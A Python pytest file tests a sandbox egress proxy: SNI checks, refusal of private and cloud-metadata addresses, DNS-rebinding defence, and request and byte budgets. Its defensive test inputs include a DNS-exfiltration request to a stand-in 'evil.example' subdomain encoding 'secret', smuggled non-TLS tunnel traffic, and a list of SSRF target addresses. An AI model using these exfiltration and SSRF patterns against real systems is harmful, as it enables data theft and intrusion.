"""The gate carries out allowed requests, checks what names resolve to, and passes on nothing else."""

import asyncio
import ipaddress
import json

import pytest

from paca.common.network_policy import EgressPolicy, Network
from paca.engine.llm.address_check import AllowedServers
from paca.sandbox.egress import addresses, booking, client_hello, gate
from paca.sandbox.egress.booking import Booking
from paca.sandbox.egress.reasons import Reason
from tests.support.egress import PUBLIC, EgressWorld, hello

pytestmark = pytest.mark.anyio
GET = b"GET http://pkgs.dev/a HTTP/1.1\r\nHost: pkgs.dev\r\n\r\n"
CONNECT = b"CONNECT pkgs.dev:443 HTTP/1.1\r\nHost: pkgs.dev:443\r\n\r\n"


@pytest.fixture
async def world(tmp_path, anyio_backend):
    async with EgressWorld(tmp_path) as made:
        yield made


def status(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])


async def test_a_plain_request_reaches_its_server_and_is_booked_before_and_after(world):
    assert (await world.ask(GET)).endswith(b"hello")
    assert world.got == b"GET /a HTTP/1.1\r\nHost: pkgs.dev\r\nConnection: close\r\n\r\n"
    assert world.connected == [(PUBLIC, 80)]
    begin, end = world.booked()
    assert (begin.host, begin.port, begin.reason, begin.begins) == ("pkgs.dev", 80, "", True)
    assert (end.sent, end.received, end.begins) == (len(world.got), len(world.answer), False)


async def test_a_tunnel_passes_tls_for_its_host(world):
    world.answer = b"Connection: close"
    first = hello("pkgs.dev")
    answer = await world.ask(CONNECT, first)
    assert answer == gate.ESTABLISHED + world.answer
    assert world.got == first
    assert world.connected == [(PUBLIC, 443)]


async def test_a_tunnel_passes_a_first_message_that_comes_in_pieces(world):
    world.answer = b"Connection: close"
    reader, writer = await world.open(CONNECT)
    assert await reader.readuntil(b"\r\n\r\n") == gate.ESTABLISHED
    first = hello("pkgs.dev")
    for at in range(0, len(first), 100):
        writer.write(first[at : at + 100])
        await writer.drain()
        await asyncio.sleep(0)
    assert await reader.read(-1) == world.answer
    writer.close()
    assert world.got.startswith(first[:100])


@pytest.mark.parametrize(
    ("first", "reason"),
    [
        (hello("evil.example"), Reason.SNI_DIFFERS),
        (hello("www.pkgs.dev"), Reason.SNI_DIFFERS),
        (hello(None), Reason.SNI_DIFFERS),
        (b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n", Reason.NOT_TLS),
        (b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", Reason.NOT_TLS),
        (b"SSH-2.0-OpenSSH_9\r\n", Reason.NOT_TLS),
        (b"\x05\x01\x00", Reason.NOT_TLS),
        (b"\x80\x2e\x01\x03\x01", Reason.NOT_TLS),
        (b"\x16\x03\x01\x00\x00", Reason.NOT_TLS),
        (b"\x16\x03\x01\x00\x04\x02\x00\x00\x00", Reason.NOT_TLS),
        (b"\x16\x03\x01\x00\x04\x01\xff\xff\xff", Reason.NOT_TLS),
        (b"\x16\x03\x01\x00\x04\x01\x00\x00\x00", Reason.NOT_TLS),
    ],
)
async def test_a_tunnel_passes_nothing_but_tls_for_its_host(world, first, reason):
    answer = await world.ask(CONNECT, first)
    assert answer.removeprefix(gate.ESTABLISHED) in (b"", client_hello.ALERT)
    assert world.got == b""
    assert world.booked()[-1].reason is reason


async def test_a_client_that_sends_no_first_message_is_cut(world, monkeypatch):
    monkeypatch.setattr(gate, "HEAD_SECONDS", 0.05)
    assert await world.ask(CONNECT) == gate.ESTABLISHED
    assert world.booked()[-1].reason is Reason.SLOW


async def test_a_request_that_comes_byte_by_byte_is_cut(world, monkeypatch):
    monkeypatch.setattr(gate, "HEAD_SECONDS", 0.05)
    assert status(await world.ask(b"GET http://pkgs.dev/ HT")) == 403
    assert world.booked()[-1].reason is Reason.SLOW


async def test_a_head_that_is_too_long_is_refused(world):
    assert status(await world.ask(b"GET http://pkgs.dev/" + b"a" * (40 << 10))) == 403
    assert world.booked()[-1].reason is Reason.MALFORMED


@pytest.mark.parametrize(
    "found",
    [
        ["127.0.0.1"],
        ["10.0.0.7"],
        ["172.17.0.1"],
        ["192.168.1.1"],
        ["169.254.169.254"],
        ["100.100.100.200"],
        ["168.63.129.16"],
        ["::ffff:168.63.129.16"],
        ["192.0.0.192"],
        ["0.0.0.0"],
        ["224.0.0.1"],
        ["255.255.255.255"],
        ["::1"],
        ["fd00:ec2::254"],
        ["fe80::1"],
        ["ff02::1"],
        ["::ffff:169.254.169.254"],
        ["::ffff:0:10.0.0.7"],
        ["64:ff9b::a9fe:a9fe"],
        ["64:ff9b:1::1"],
        ["2002:7f00:1::"],
        ["::127.0.0.1"],
        ["2001:0:7f00:1::1"],
        ["fec0::1"],
        [PUBLIC, "127.0.0.1"],
    ],
)
async def test_a_listed_name_never_leads_to_a_private_address(world, found):
    world.names["pkgs.dev"] = found
    answer = await world.ask(CONNECT, hello("pkgs.dev"))
    assert status(answer) == 403
    assert b"private network" in answer
    assert world.connected == []
    assert world.booked()[-1].reason is Reason.PRIVATE


def test_an_address_of_this_machine_counts_as_private():
    own, other = ipaddress.ip_address("93.184.216.34"), ipaddress.ip_address("1.1.1.1")
    nothing = AllowedServers()
    for address, found in ((own, []), (other, [other])):
        assert found == addresses.allowed_addresses(
            "pkgs.dev", 443, [address], nothing, is_own=lambda each: each == own
        )


def test_addresses_of_this_machine_are_found():
    assert addresses.is_own_address(ipaddress.ip_address("127.0.0.1"))
    assert addresses.is_own_address(ipaddress.ip_address("::ffff:127.0.0.1"))
    assert not addresses.is_own_address(ipaddress.ip_address("1.1.1.1"))


@pytest.mark.parametrize(
    ("listed", "found", "reached"),
    [
        ("pkgs.dev:443", "10.0.0.7", True),
        ("pkgs.dev:80", "10.0.0.7", False),
        ("pkgs.dev:443", "169.254.169.254", False),
        ("pkgs.dev:443", "168.63.129.16", False),
        ("pkgs.dev:443", "192.0.0.192", False),
        ("other.example:443", "10.0.0.7", False),
    ],
)
async def test_private_servers_are_reached_where_the_operator_lists_them(
    tmp_path, listed, found, reached
):
    policy = EgressPolicy(Network.RESTRICTED, ("pkgs.dev",), private=(listed,))
    async with EgressWorld(tmp_path, policy) as world:
        world.names["pkgs.dev"] = [found]
        world.answer = b"Connection: close"
        await world.ask(CONNECT, hello("pkgs.dev"))
        assert bool(world.connected) is reached


async def test_a_private_server_is_reached_at_its_own_port(tmp_path):
    policy = EgressPolicy(Network.RESTRICTED, ("pkgs.dev",), private=("pkgs.dev:8443",))
    async with EgressWorld(tmp_path, policy) as world:
        world.names["pkgs.dev"] = ["10.0.0.7"]
        world.answer = b"Connection: close"
        await world.ask(CONNECT.replace(b":443", b":8443"), hello("pkgs.dev"))
        assert world.connected == [("10.0.0.7", 8443)]


@pytest.mark.parametrize(("hosts", "reached"), [((), False), (("pkgs.dev",), True)])
async def test_a_private_server_is_open_to_projects_that_list_it_only(tmp_path, hosts, reached):
    policy = EgressPolicy(Network.OPEN, hosts, private=("pkgs.dev:443",))
    async with EgressWorld(tmp_path, policy) as world:
        world.names["pkgs.dev"] = ["10.0.0.7"]
        world.answer = b"Connection: close"
        await world.ask(CONNECT, hello("pkgs.dev"))
        assert bool(world.connected) is reached


async def test_a_name_is_resolved_once_so_that_it_cannot_move(world):
    """DNS rebinding: the second answer would be a private address."""
    world.answer = b"Connection: close"
    await world.ask(CONNECT, hello("pkgs.dev"))
    world.names["pkgs.dev"] = ["127.0.0.1"]
    assert status(await world.ask(GET)) == 403
    assert world.resolved == ["pkgs.dev", "pkgs.dev"]
    assert world.connected == [(PUBLIC, 443)]


async def test_a_name_that_is_not_listed_is_not_even_resolved(world):
    """A name could carry data to the server of its zone."""
    secret = b"GET http://c2VjcmV0.evil.example/ HTTP/1.1\r\nHost: c2VjcmV0.evil.example\r\n\r\n"
    answer = await world.ask(secret)
    assert status(answer) == 403
    assert b"not on the list of hosts of this project" in answer.split(b"\r\n")[0]
    assert b"X-Paca-Refused: not_listed" in answer
    assert world.resolved == []


async def test_a_redirect_to_another_host_is_a_new_request(world):
    world.answer = (
        b"HTTP/1.1 302 Found\r\nLocation: http://evil.example/\r\nConnection: close\r\n\r\n"
    )
    assert status(await world.ask(GET)) == 302
    assert world.resolved == ["pkgs.dev"]


async def test_a_second_request_on_the_connection_goes_nowhere(world):
    second = GET.replace(b"pkgs.dev", b"evil.example")
    answer = await world.ask(GET + second + GET)
    assert answer.count(b"HTTP/1.1") == 1
    assert world.got.count(b"GET") == 1
    assert b"evil" not in world.got


async def test_a_name_that_cannot_be_resolved_is_told(world):
    world.names.clear()
    answer = await world.ask(GET)
    assert status(answer) == 503
    assert b"cannot be resolved" in answer


async def test_names_that_resolve_slowly_take_few_threads_of_one_conversation(world, monkeypatch):
    """The process resolves the names of all conversations of the machine."""
    monkeypatch.setattr(gate, "MAX_RESOLVING", 1)
    monkeypatch.setattr(addresses, "RESOLVE_SECONDS", 0.05)
    answering, asked = asyncio.Event(), []

    async def resolve(host, port):
        asked.append(host)
        await answering.wait()
        return [ipaddress.ip_address(PUBLIC)]

    slow = gate.Gate(
        lambda: world.policy, world.gate._booking, resolve=resolve, connect=world._connect
    )
    for _ in range(3):
        with pytest.raises(TimeoutError):
            await slow._resolve_in_turn("pkgs.dev", 443)
    assert asked == ["pkgs.dev"]
    answering.set()
    monkeypatch.setattr(addresses, "RESOLVE_SECONDS", 60)
    assert await slow._resolve_in_turn("pkgs.dev", 443) == [ipaddress.ip_address(PUBLIC)]


async def test_a_server_that_refuses_is_told_and_booked(world):
    async def refuse(address, port):
        raise ConnectionRefusedError

    world.gate._connect = refuse
    assert status(await world.ask(GET)) == 503
    assert [line.reason for line in world.booked()] == [Reason.NONE, Reason.UNREACHABLE]


async def test_the_budget_of_requests_counts_refused_ones_and_survives_the_process(tmp_path):
    policy = EgressPolicy(Network.RESTRICTED, ("pkgs.dev",), max_requests=2)
    async with EgressWorld(tmp_path, policy) as world:
        assert status(await world.ask(GET)) == 200
        assert status(await world.ask(GET.replace(b"pkgs.dev", b"evil.example"))) == 403
        assert b"budget" in await world.ask(GET)
        booked = len(world.booked())
        await world.ask(GET)
        assert len(world.booked()) == booked  # refusals beyond it do not fill the disk
    async with EgressWorld(tmp_path / "..", policy) as again:
        again.path = world.path
        again.gate = again.new_gate()
        assert again.gate._booking.requests == 2


@pytest.mark.parametrize("sent", [b"\r\n\r\n", b"GET " + b"a" * (40 << 10)])
async def test_malformed_requests_beyond_the_budget_do_not_fill_the_disk(tmp_path, sent):
    policy = EgressPolicy(Network.RESTRICTED, ("pkgs.dev",), max_requests=2)
    async with EgressWorld(tmp_path, policy) as world:
        for _ in range(2):
            assert b"malformed" in await world.ask(sent)
        assert b"budget" in await world.ask(sent)
        assert len(world.booked()) == 2


async def test_the_budget_of_bytes_ends_a_transfer(tmp_path):
    policy = EgressPolicy(Network.RESTRICTED, ("pkgs.dev",), max_bytes=100)
    async with EgressWorld(tmp_path, policy) as world:
        world.answer = b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + b"x" * 500
        assert len(await world.ask(GET)) < 500
        assert world.booked()[-1].reason is Reason.BUDGET
        assert b"budget" in await world.ask(GET)


async def test_connections_beyond_the_most_are_refused_at_once(world, monkeypatch):
    monkeypatch.setattr(gate, "MAX_CONNECTIONS", 1)
    reader, writer = await world.open(CONNECT)
    await reader.readuntil(b"\r\n\r\n")
    assert b"too_many" in await world.ask(GET)
    writer.close()


async def test_a_narrower_policy_cuts_open_connections(world):
    world.answer = b"more"
    reader, writer = await world.open(CONNECT, hello("pkgs.dev"))
    await reader.readuntil(b"\r\n\r\n")
    assert await reader.read(4) == b"more"
    world.gate.enforce()
    writer.write(b"x")
    assert await reader.read(4) == b"more"
    world.policy = EgressPolicy(Network.NONE)
    world.gate.enforce()
    assert await reader.read(4) == b""
    assert b"closed" in await world.ask(GET)
    writer.close()


async def test_a_transfer_goes_on_after_the_client_has_ended_its_part(world):
    world.answer = b"Connection: close" + b"y" * (1 << 20)
    reader, writer = await world.open(CONNECT, hello("pkgs.dev"))
    writer.write_eof()
    assert (await reader.read(-1)).endswith(world.answer)
    writer.close()


# --- the first message of TLS ---------------------------------------------------------------------


def record(body: bytes) -> bytes:
    return b"\x16\x03\x01" + len(body).to_bytes(2, "big") + body


def test_a_first_message_is_read_from_any_pieces_and_records():
    first = hello("pkgs.dev")
    assert client_hello.server_name(first) == "pkgs.dev"
    assert all(client_hello.server_name(first[:n]) is None for n in range(len(first)))
    body = first[5:]
    spread = b"".join(record(body[at : at + 7]) for at in range(0, len(body), 7))
    assert client_hello.server_name(spread) == "pkgs.dev"
    assert client_hello.server_name(first + b"\x17\x03\x03") == "pkgs.dev"


def test_a_first_message_in_very_many_records_is_none():
    """It is read anew with each piece that arrives, by a process that serves all conversations of the machine."""
    body = hello("pkgs.dev")[5:]
    spread = b"".join(record(body[at : at + 1]) for at in range(len(body)))
    with pytest.raises(client_hello.NotTls, match="too many records"):
        client_hello.server_name(spread)


def test_a_first_message_with_two_names_is_none():
    first = hello("pkgs.dev")
    name = b"\x00\x00\x08pkgs.dev"
    at = first.index(name)
    two = name + name
    grown = len(name)
    body = bytearray(first[5:])
    # The list of names, its extension, the extensions and the message each say their length before it.
    at -= 5
    body[at : at + len(name)] = two
    for place in (at - 2, at - 4):
        body[place : place + 2] = (int.from_bytes(body[place : place + 2], "big") + grown).to_bytes(
            2, "big"
        )
    session = body[38]
    place = 39 + session
    place += 2 + int.from_bytes(body[place : place + 2], "big")
    place += 1 + body[place]
    body[place : place + 2] = (int.from_bytes(body[place : place + 2], "big") + grown).to_bytes(
        2, "big"
    )
    body[1:4] = (int.from_bytes(body[1:4], "big") + grown).to_bytes(3, "big")
    with pytest.raises(client_hello.NotTls, match="more than one name"):
        client_hello.server_name(record(bytes(body)))


def test_lines_that_a_crash_has_cut_are_skipped(tmp_path):
    path = tmp_path / "booked.jsonl"
    first = Booking(path)
    first.begin("pkgs.dev", 443)
    with path.open("ab") as file:
        file.write(json.dumps([1, 2]).encode() + b'\nnull\n[1.0, "half')
    lines, offset = booking.read_lines(path, 0)
    assert [line.host for line in lines] == ["pkgs.dev"]
    assert booking.read_lines(path, offset) == ([], offset)
